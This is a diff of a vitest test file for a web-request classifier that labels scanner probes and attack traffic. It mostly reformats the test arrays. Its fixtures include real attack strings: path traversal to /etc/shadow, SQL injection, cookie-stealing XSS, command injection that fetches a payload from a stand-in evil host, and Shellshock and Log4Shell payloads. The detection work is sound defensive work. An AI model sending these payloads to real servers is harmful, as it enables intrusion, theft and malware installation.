@@ -2,7 +2,8 @@ import { describe, expect, it } from 'vitest';
 import { classify, isAttackSignal, RULES } from '../src/index.js';
 import type { RequestFacts } from '../src/index.js';
 
-const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
+const CHROME =
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
 const MAY_2026 = Date.UTC(2026, 4, 1);
 
 function signals(path: string, extra: Partial<RequestFacts> = {}): string[] {
@@ -10,33 +11,113 @@ function signals(path: string, extra: Partial<RequestFacts> = {}): string[] {
 }
 
 // Each rule: requests that must fire it, and look-alikes that must not.
-const CASES: Record<string, { yes: Array<string | [string, Partial<RequestFacts>]>; no: Array<string | [string, Partial<RequestFacts>]> }> = {
+const CASES: Record<
+  string,
+  {
+    yes: Array<string | [string, Partial<RequestFacts>]>;
+    no: Array<string | [string, Partial<RequestFacts>]>;
+  }
+> = {
   'wordpress-probe': {
-    yes: ['/wp-login.php', '/xmlrpc.php', '/wp-admin/', '/blog/wp-admin/', '/wp-config.php.bak', '/WP-LOGIN.PHP', '/wp-content/plugins/revslider/', '/wp-includes/wlwmanifest.xml', '/x//./wp-login.php'],
+    yes: [
+      '/wp-login.php',
+      '/xmlrpc.php',
+      '/wp-admin/',
+      '/blog/wp-admin/',
+      '/wp-config.php.bak',
+      '/WP-LOGIN.PHP',
+      '/wp-content/plugins/revslider/',
+      '/wp-includes/wlwmanifest.xml',
+      '/x//./wp-login.php',
+    ],
     no: ['/blog/wordpress-tips.html', '/wp', '/about/wp-history', ['/wp-login.php', { status: 200 }]],
   },
   'phpmyadmin-probe': {
-    yes: ['/phpmyadmin/', '/phpMyAdmin-4.9.0/index.php', '/pma/', '/myadmin/scripts/setup.php', '/mysqladmin/', '/adminer.php'],
+    yes: [
+      '/phpmyadmin/',
+      '/phpMyAdmin-4.9.0/index.php',
+      '/pma/',
+      '/myadmin/scripts/setup.php',
+      '/mysqladmin/',
+      '/adminer.php',
+    ],
     no: ['/php/my/admin', '/blog/phpmyadmin-review', ['/phpmyadmin/', { status: 200 }]],
   },
   'admin-interface-probe': {
-    yes: ['/administrator/', '/admin.php', '/administrator/index.php', '/manager/html', '/solr/admin/', '/user/register', '/node/add/blog', '/jmx-console/'],
-    no: ['/blog/administration-tips', '/manager', ['/admin', { status: 302 }], ['/administrator/', { status: 200 }]],
+    yes: [
+      '/administrator/',
+      '/admin.php',
+      '/administrator/index.php',
+      '/manager/html',
+      '/solr/admin/',
+      '/user/register',
+      '/node/add/blog',
+      '/jmx-console/',
+    ],
+    no: [
+      '/blog/administration-tips',
+      '/manager',
+      ['/admin', { status: 302 }],
+      ['/administrator/', { status: 200 }],
+    ],
   },
   'sensitive-file': {
-    yes: ['/.env', '/.env.production', '/app/.env.bak', '/.git/config', '/.git/HEAD', '/.svn/entries', '/.DS_Store', '/backup.zip', '/db.sql', '/dump.sql.gz', '/.aws/credentials', '/id_rsa', '/server.key', '/index.php~', '/config.php.bak', '/phpinfo.php', ['/.env', { status: 200 }]],
-    no: ['/environment.html', '/blog/git-tips', '/files/logstash-1.3.2.tar.gz', '/scripts/python/wrap.backup/', '/.well-known/security.txt', '/keys.html'],
+    yes: [
+      '/.env',
+      '/.env.production',
+      '/app/.env.bak',
+      '/.git/config',
+      '/.git/HEAD',
+      '/.svn/entries',
+      '/.DS_Store',
+      '/backup.zip',
+      '/db.sql',
+      '/dump.sql.gz',
+      '/.aws/credentials',
+      '/id_rsa',
+      '/server.key',
+      '/index.php~',
+      '/config.php.bak',
+      '/phpinfo.php',
+      ['/.env', { status: 200 }],
+    ],
+    no: [
+      '/environment.html',
+      '/blog/git-tips',
+      '/files/logstash-1.3.2.tar.gz',
+      '/scripts/python/wrap.backup/',
+      '/.well-known/security.txt',
+      '/keys.html',
+    ],
   },
   'backdoor-probe': {
     yes: ['/c99.php', '/r57.php', '/wso2.8.5.php', '/shell.php', '/uploads/alfa-rex.php', '/cmd.aspx'],
     no: ['/c99.html', '/index.php', '/shell/', '/css.php'],
   },
   'cve-probe': {
-    yes: ['/_ignition/execute-solution', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/nas_sharing.cgi', '/global-protect/login.esp', '/HNAP1/', '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array', '/boaform/admin/formLogin', '/fckeditor/editor/filemanager/connectors/test.html'],
+    yes: [
+      '/_ignition/execute-solution',
+      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+      '/cgi-bin/nas_sharing.cgi',
+      '/global-protect/login.esp',
+      '/HNAP1/',
+      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array',
+      '/boaform/admin/formLogin',
+      '/fckeditor/editor/filemanager/connectors/test.html',
+    ],
     no: ['/ignition', '/docs/phpunit-guide.html', '/setup', '/global/protect.html'],
   },
   'path-traversal': {
-    yes: ['/../../etc/passwd', '/static/..%2f..%2f..%2fetc%2fpasswd', '/%252e%252e%252f%252e%252e%252fetc/hosts', '/download?file=../../../../etc/shadow', '/..\\..\\windows\\win.ini', '/cgi-bin/.%2e/.%2e/.%2e/bin/sh', '/x?page=/proc/self/environ', '/a/..;/b'],
+    yes: [
+      '/../../etc/passwd',
+      '/static/..%2f..%2f..%2fetc%2fpasswd',
+      '/%252e%252e%252f%252e%252e%252fetc/hosts',
+      '/download?file=../../../../etc/shadow',
+      '/..\\..\\windows\\win.ini',
+      '/cgi-bin/.%2e/.%2e/.%2e/bin/sh',
+      '/x?page=/proc/self/environ',
+      '/a/..;/b',
+    ],
     no: ['/files/a..b.txt', '/blog/.../post', '/docs/etc/passwords-policy.html', '/x?v=1..2'],
   },
   'sql-injection': {
@@ -52,34 +133,91 @@ const CASES: Record<string, { yes: Array<string | [string, Partial<RequestFacts>
       "/item?id=1' ORDER BY 1-- -",
       '/q?x=1%27%20or%201=1',
     ],
-    no: ['/blog/union-select-explained', '/search?q=rock+and+roll', "/search?q=don't+stop", '/item?id=42', '/search?q=select+items+from+list', '/?a=1&b=2'],
+    no: [
+      '/blog/union-select-explained',
+      '/search?q=rock+and+roll',
+      "/search?q=don't+stop",
+      '/item?id=42',
+      '/search?q=select+items+from+list',
+      '/?a=1&b=2',
+    ],
   },
   xss: {
-    yes: ['/search?q=<script>alert(1)</script>', '/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E', '/?r=javascript:alert(document.cookie)', '/search?q=%253Csvg%2Fonload%3Dalert(1)%253E', '/x?q="><body onload=prompt(1)>'],
-    no: ['/search?q=a<b', '/projects/xdotool%3E', '/search?q=javascript+tutorial', '/blog/alerting-done-right'],
+    yes: [
+      '/search?q=<script>alert(1)</script>',
+      '/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E',
+      '/?r=javascript:alert(document.cookie)',
+      '/search?q=%253Csvg%2Fonload%3Dalert(1)%253E',
+      '/x?q="><body onload=prompt(1)>',
+    ],
+    no: [
+      '/search?q=a<b',
+      '/projects/xdotool%3E',
+      '/search?q=javascript+tutorial',
+      '/blog/alerting-done-right',
+    ],
   },
   'command-injection': {
-    yes: ['/ping?host=127.0.0.1;id', '/ping?host=x|wget http://e.vil/x.sh', '/x?c=$(whoami)', '/x?c=`uname -a`', '/cgi-bin/x?cmd=/bin/sh', '/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/Mozi.m', '/x?c=%0acat /etc/hosts'],
+    yes: [
+      '/ping?host=127.0.0.1;id',
+      '/ping?host=x|wget http://e.vil/x.sh',
+      '/x?c=$(whoami)',
+      '/x?c=`uname -a`',
+      '/cgi-bin/x?cmd=/bin/sh',
+      '/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/Mozi.m',
+      '/x?c=%0acat /etc/hosts',
+    ],
     no: ['/files/?C=M;O=D', '/search?q=identity', '/page;jsessionid=abc', '/a?x=1&&y=2'],
   },
   shellshock: {
-    yes: [['/cgi-bin/status', { userAgent: '() { :; }; /bin/bash -c "id"' }], ['/', { referer: '() { :;}; echo vulnerable' }], '/cgi-bin/x?q=()%20{%20:;%20};%20id'],
+    yes: [
+      ['/cgi-bin/status', { userAgent: '() { :; }; /bin/bash -c "id"' }],
+      ['/', { referer: '() { :;}; echo vulnerable' }],
+      '/cgi-bin/x?q=()%20{%20:;%20};%20id',
+    ],
     no: [['/', { userAgent: 'Mozilla/5.0 (compatible) {x}' }], '/docs/functions()/braces{}'],
   },
   log4shell: {
-    yes: [['/', { userAgent: '${jndi:ldap://evil.example/a}' }], '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.vil%2Fa%7D', ['/', { referer: '${${lower:j}ndi:${lower:l}dap://x/}' }], '/?q=${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}'],
+    yes: [
+      ['/', { userAgent: '${jndi:ldap://evil.example/a}' }],
+      '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.vil%2Fa%7D',
+      ['/', { referer: '${${lower:j}ndi:${lower:l}dap://x/}' }],
+      '/?q=${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}',
+    ],
     no: ['/?tpl=${name}', '/docs/jndi-guide.html'],
   },
   'php-remote-include': {
-    yes: ['/index.php?page=http://evil.example/shell.txt?', '/x?inc=php://input', '/index.php?file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+', '/view?page=http://evil.example/c99.txt', '/index.php?lang=https://e.vil/x'],
+    yes: [
+      '/index.php?page=http://evil.example/shell.txt?',
+      '/x?inc=php://input',
+      '/index.php?file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+',
+      '/view?page=http://evil.example/c99.txt',
+      '/index.php?lang=https://e.vil/x',
+    ],
     no: ['/login?next=https://example.com/account', '/out?url=http://example.org/page.html'],
   },
   'bad-method': {
-    yes: [['/', { method: 'TRACE' }], ['/', { method: 'PROPFIND' }], ['example.com:443', { method: 'CONNECT' }]],
-    no: [['/', { method: 'GET' }], ['/', { method: 'OPTIONS' }], ['/', { method: 'DELETE' }]],
+    yes: [
+      ['/', { method: 'TRACE' }],
+      ['/', { method: 'PROPFIND' }],
+      ['example.com:443', { method: 'CONNECT' }],
+    ],
+    no: [
+      ['/', { method: 'GET' }],
+      ['/', { method: 'OPTIONS' }],
+      ['/', { method: 'DELETE' }],
+    ],
   },
   'malformed-request': {
-    yes: [['/', { method: '\\x16\\x03\\x01' }], '/a%00.php', '/bad%zzescape', `/${'a'.repeat(9000)}`, 'http://proxy.example/', '/tab\there', '/latin1-%E9t%E9'],
+    yes: [
+      ['/', { method: '\\x16\\x03\\x01' }],
+      '/a%00.php',
+      '/bad%zzescape',
+      `/${'a'.repeat(9000)}`,
+      'http://proxy.example/',
+      '/tab\there',
+      '/latin1-%E9t%E9',
+    ],
     no: ['/', '/a%20b', '/caf%C3%A9', '/blog/geekery%E2%80%A6'],
   },
   'scanner-user-agent': {
@@ -93,53 +231,168 @@ const CASES: Record<string, { yes: Array<string | [string, Partial<RequestFacts>
       ['/', { userAgent: 'Mozilla/5.0 zgrab/0.x' }],
       ['/', { userAgent: 'WhatWeb/0.5.5' }],
     ],
-    no: [['/', { userAgent: CHROME }], ['/', { userAgent: 'curl/8.5.0' }], ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }]],
+    no: [
+      ['/', { userAgent: CHROME }],
+      ['/', { userAgent: 'curl/8.5.0' }],
+      ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }],
+    ],
   },
   'empty-user-agent': {
-    yes: [['/', { userAgent: '' }], ['/', { userAgent: '-' }], ['/', { userAgent: undefined }]],
+    yes: [
+      ['/', { userAgent: '' }],
+      ['/', { userAgent: '-' }],
+      ['/', { userAgent: undefined }],
+    ],
     no: [['/', { userAgent: 'x' }]],
   },
   'tool-user-agent': {
-    yes: [['/', { userAgent: 'python-requests/2.31.0' }], ['/', { userAgent: 'curl/8.5.0' }], ['/', { userAgent: 'Wget/1.21.4' }], ['/', { userAgent: 'Go-http-client/1.1' }]],
-    no: [['/', { userAgent: CHROME }], ['/', { userAgent: 'sqlmap/1.7' }]],
+    yes: [
+      ['/', { userAgent: 'python-requests/2.31.0' }],
+      ['/', { userAgent: 'curl/8.5.0' }],
+      ['/', { userAgent: 'Wget/1.21.4' }],
+      ['/', { userAgent: 'Go-http-client/1.1' }],
+    ],
+    no: [
+      ['/', { userAgent: CHROME }],
+      ['/', { userAgent: 'sqlmap/1.7' }],
+    ],
   },
   'outdated-browser': {
     yes: [
       ['/', { userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0', time: MAY_2026 }],
-      ['/', { userAgent: 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)', time: new Date('2015-05-17T10:00:00Z') }],
-      ['/', { userAgent: 'Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36', time: MAY_2026 }],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)',
+          time: new Date('2015-05-17T10:00:00Z'),
+        },
+      ],
+      [
+        '/',
+        {
+          userAgent:
+            'Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36',
+          time: MAY_2026,
+        },
+      ],
     ],
     no: [
-      ['/', { userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0', time: Date.UTC(2011, 5, 1) }],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0',
+          time: Date.UTC(2011, 5, 1),
+        },
+      ],
       ['/', { userAgent: CHROME, time: MAY_2026 }],
-      ['/', { userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0', time: undefined }],
-      ['/', { userAgent: 'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:27.0) Gecko/20100101 Firefox/27.0', time: Date.UTC(2015, 4, 17) }],
+      [
+        '/',
+        { userAgent: 'Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 Firefox/4.0', time: undefined },
+      ],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:27.0) Gecko/20100101 Firefox/27.0',
+          time: Date.UTC(2015, 4, 17),
+        },
+      ],
     ],
   },
   'fake-crawler': {
     yes: [
-      ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ip: '177.37.188.215' }],
-      ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ip: '127.0.0.1' }],
-      ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ip: '192.168.1.20' }],
-      ['/', { userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', ip: '8.8.8.8' }],
-      ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ip: '::1' }],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
+          ip: '177.37.188.215',
+        },
+      ],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
+          ip: '127.0.0.1',
+        },
+      ],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
+          ip: '192.168.1.20',
+        },
+      ],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
+          ip: '8.8.8.8',
+        },
+      ],
+      [
+        '/',
+        { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ip: '::1' },
+      ],
     ],
     no: [
-      ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ip: '66.249.73.135' }],
-      ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ip: '2001:4860:4801:10::1' }],
-      ['/', { userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', ip: '157.55.39.1' }],
-      ['/', { userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', ip: '65.55.213.73' }],
-      ['/', { userAgent: 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', ip: '127.0.0.1' }],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
+          ip: '66.249.73.135',
+        },
+      ],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
+          ip: '2001:4860:4801:10::1',
+        },
+      ],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
+          ip: '157.55.39.1',
+        },
+      ],
+      [
+        '/',
+        {
+          userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
+          ip: '65.55.213.73',
+        },
+      ],
+      [
+        '/',
+        { userAgent: 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', ip: '127.0.0.1' },
+      ],
       ['/', { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }],
     ],
   },
   'crawler-restricted': {
-    yes: [['/account', { userAgent: 'Mozilla/5.0 (compatible; AhrefsBot/7.0)', authRequired: true, status: 302 }], ['/svnweb/', { userAgent: 'Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)', status: 403 }]],
-    no: [['/account', { authRequired: true, status: 302 }], ['/blog', { userAgent: 'Mozilla/5.0 (compatible; AhrefsBot/7.0)', status: 200 }]],
+    yes: [
+      ['/account', { userAgent: 'Mozilla/5.0 (compatible; AhrefsBot/7.0)', authRequired: true, status: 302 }],
+      ['/svnweb/', { userAgent: 'Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)', status: 403 }],
+    ],
+    no: [
+      ['/account', { authRequired: true, status: 302 }],
+      ['/blog', { userAgent: 'Mozilla/5.0 (compatible; AhrefsBot/7.0)', status: 200 }],
+    ],
   },
   'not-found-probe': {
-    yes: ['/old-secret-page', ['/nope', { linked: false, referer: 'https://example.com/' }], ['/x', { host: 'example.com', referer: 'https://example.com/x' }]],
-    no: [['/a', { status: 200 }], '/favicon.ico', '/apple-touch-icon-120x120.png', '/img/missing.png', ['/broken', { referer: 'https://example.com/page' }], ['/gone', { linked: true }]],
+    yes: [
+      '/old-secret-page',
+      ['/nope', { linked: false, referer: 'https://example.com/' }],
+      ['/x', { host: 'example.com', referer: 'https://example.com/x' }],
+    ],
+    no: [
+      ['/a', { status: 200 }],
+      '/favicon.ico',
+      '/apple-touch-icon-120x120.png',
+      '/img/missing.png',
+      ['/broken', { referer: 'https://example.com/page' }],
+      ['/gone', { linked: true }],
+    ],
   },
 };
 
@@ -184,22 +437,39 @@ for (const [id, { yes, no }] of Object.entries(CASES)) {
 describe('real scanner request shapes', () => {
   it("flags Nmap's http-enum probe and dirb/gobuster wordlist paths", () => {
     expect(signals('/nice%20ports%2C/Tri%6Eity.txt%2ebak')).toContain('sensitive-file');
-    for (const p of ['/.git/HEAD', '/.svn/entries', '/.htpasswd', '/backup.tar.gz', '/phpmyadmin/', '/wp-admin/', '/administrator/', '/.env']) {
+    for (const p of [
+      '/.git/HEAD',
+      '/.svn/entries',
+      '/.htpasswd',
+      '/backup.tar.gz',
+      '/phpmyadmin/',
+      '/wp-admin/',
+      '/administrator/',
+      '/.env',
+    ]) {
       expect(signals(p).some(isAttackSignal), p).toBe(true);
     }
   });
 
   it('reports signals once each, in catalogue order', () => {
-    const s = signals("/wp-login.php?x=1' or '1'='1&y=<script>alert(1)</script>", { userAgent: 'sqlmap/1.7' });
+    const s = signals("/wp-login.php?x=1' or '1'='1&y=<script>alert(1)</script>", {
+      userAgent: 'sqlmap/1.7',
+    });
     expect(new Set(s).size).toBe(s.length);
     const order = Object.keys(RULES);
     expect([...s].sort((a, b) => order.indexOf(a) - order.indexOf(b))).toEqual(s);
-    expect(s).toEqual(expect.arrayContaining(['wordpress-probe', 'sql-injection', 'xss', 'scanner-user-agent']));
+    expect(s).toEqual(
+      expect.arrayContaining(['wordpress-probe', 'sql-injection', 'xss', 'scanner-user-agent']),
+    );
   });
 
   it('reads the query from `query` when given, and from the path otherwise', () => {
-    expect(classify({ method: 'GET', path: '/item', query: "id=1' or '1'='1" }).signals).toContain('sql-injection');
-    expect(classify({ method: 'GET', path: '/item', query: "?id=1' or '1'='1" }).signals).toContain('sql-injection');
+    expect(classify({ method: 'GET', path: '/item', query: "id=1' or '1'='1" }).signals).toContain(
+      'sql-injection',
+    );
+    expect(classify({ method: 'GET', path: '/item', query: "?id=1' or '1'='1" }).signals).toContain(
+      'sql-injection',
+    );
     expect(classify({ method: 'GET', path: "/item?id=1' or '1'='1" }).signals).toContain('sql-injection');
   });
 });
